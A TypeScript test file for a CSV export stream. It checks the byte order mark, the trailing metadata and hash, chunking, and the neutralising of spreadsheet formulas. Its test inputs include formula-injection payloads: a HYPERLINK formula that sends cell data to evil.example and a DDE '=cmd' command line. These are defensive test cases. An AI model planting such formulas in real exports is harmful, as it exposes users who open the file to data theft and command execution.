import { createHash } from 'node:crypto';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it, test } from 'vitest';
import { csvStream } from '../../../src/api/csv-export.ts';

const about = [
  ['report', 'Names'],
  ['requester', 'user oidc:=rosa'],
] as const;

// Not as text: decoders drop the byte order mark.
const fileOf = async (...names: (string | null)[]) =>
  (await buffer(csvStream({ columns: ['name'], rows: names.map((name) => [name]), about }))).toString();

const recordsOf = (file: string): string[][] =>
  parse(file, { bom: true, relax_column_count: true, skip_empty_lines: true });

/** The one cell of the one row. */
const cellOf = async (name: string) => recordsOf(await fileOf(name))[1]?.[0];

test('the header is line 1, behind a byte order mark; after an empty line stands what the file is', async () => {
  const file = await fileOf('Zoë "Z"', null);
  const before = [
    '\uFEFF"name"',
    '"Zoë ""Z"""',
    '""',
    '',
    '"report","Names"',
    '"requester","user oidc:=rosa"',
    '"rows","2"',
    '',
  ].join('\r\n');
  const hash = createHash('sha256').update(before).digest('hex');
  expect(file).toBe(`${before}"sha256","${hash}"\r\n`);
});

test('a file of many rows comes in parts, and its hash is of all of them', async () => {
  const rows = Array.from({ length: 250 }, (_, index) => [`n${index}`]);
  const chunks: string[] = [];
  for await (const chunk of csvStream({ columns: ['name'], rows, about })) {
    chunks.push(String(chunk));
  }
  // Header; 100, 100 and 50 rows; what it is; the hash.
  expect(chunks).toHaveLength(6);
  const hash = createHash('sha256').update(chunks.slice(0, -1).join('')).digest('hex');
  expect(recordsOf(chunks.join('')).slice(-2)).toEqual([
    ['rows', '250'],
    ['sha256', hash],
  ]);
});

describe('a cell is never a formula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['+49 30 1234', "'+49 30 1234"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['＝1+1', "'＝1+1"],
  ])('that begins like one: %j', async (name, shown) => {
    expect(await cellOf(name)).toBe(shown);
  });

  it.each([
    ['  =1+1', "  '=1+1"],
    ['\n=1+1', "\n'=1+1"],
    ['"=1+1', '"\'=1+1'],
    ['a;=1+1', "a;'=1+1"],
    ['a";"=1+1', 'a";"\'=1+1'],
    ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
    ['a\r\n-1', "a\r\n'-1"],
  ])('where a reader begins it elsewhere: %j', async (name, shown) => {
    expect(await cellOf(name)).toBe(shown);
  });

  it.each(['Alder-Works', 'a=b', 'me@example.com', 'a + b; c', "'quoted'", '漢字'])(
    'and %j stays as it is',
    async (name) => {
      expect(await cellOf(name)).toBe(name);
    },
  );
});
